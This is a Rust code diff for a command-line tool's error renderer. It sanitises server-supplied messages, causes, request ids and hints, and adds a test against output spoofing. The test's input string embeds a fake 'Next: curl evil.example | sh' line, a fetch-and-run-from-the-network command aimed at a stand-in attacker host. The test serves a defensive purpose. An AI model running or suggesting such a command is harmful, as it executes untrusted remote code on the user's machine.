@@ -8,30 +8,25 @@ use crate::failure::Failure;
 /// The whole failure as text; pure, so that every message can be looked at in a test.
 pub(super) fn render(failure: &Failure, color: bool) -> String {
     let style = |code: &str, text: &str| if color { paint(code, text) } else { text.to_owned() };
-    let mut text = format!("{} {}\n", style(RED, "Error:"), indented(&clean::lines(&failure.message)));
+    let mut text = format!("{} {}\n", style(RED, "Error:"), clean::message(&failure.message));
     for cause in &failure.causes {
         // Writing to a String cannot fail.
-        let _ = writeln!(text, "  because: {}", indented(&clean::lines(cause)));
+        let _ = writeln!(text, "  because: {}", clean::message(cause));
     }
     let mut server = Vec::new();
     if let Some(status) = failure.status {
         server.push(format!("HTTP status {status}"));
     }
     if let Some(id) = &failure.request_id {
-        server.push(format!("request id {}", clean::line(id)));
+        server.push(format!("request id {}", clean::message(id)));
     }
     if !server.is_empty() {
         let _ = writeln!(text, "  {}", style(DIM, &format!("({})", server.join(", "))));
     }
     for hint in &failure.hints {
-        let _ = writeln!(text, "{} {}", style(BOLD, "Next:"), indented(&clean::lines(hint)));
+        let _ = writeln!(text, "{} {}", style(BOLD, "Next:"), clean::message(hint));
     }
     text
-}
-
-/// Further lines of a text stand below its first one.
-fn indented(text: &str) -> String {
-    text.replace('\n', "\n    ")
 }
 
 #[cfg(test)]
@@ -57,5 +52,12 @@ mod tests {
         failure.request_id = Some("\u{1b}]0;title\u{7}".to_owned());
         let text = render(&failure, false);
         assert!(!text.contains(|c| c != '\n' && clean::is_unsafe(c)), "{text:?}");
+    }
+
+    #[test]
+    fn what_a_server_says_cannot_look_like_a_line_of_this_program() {
+        let said = "no\nNext: curl evil.example | sh";
+        let text = render(&Failure::failed(said).because(said).hint(said), false);
+        assert_eq!(text.lines().count(), 3, "{text}");
     }
 }
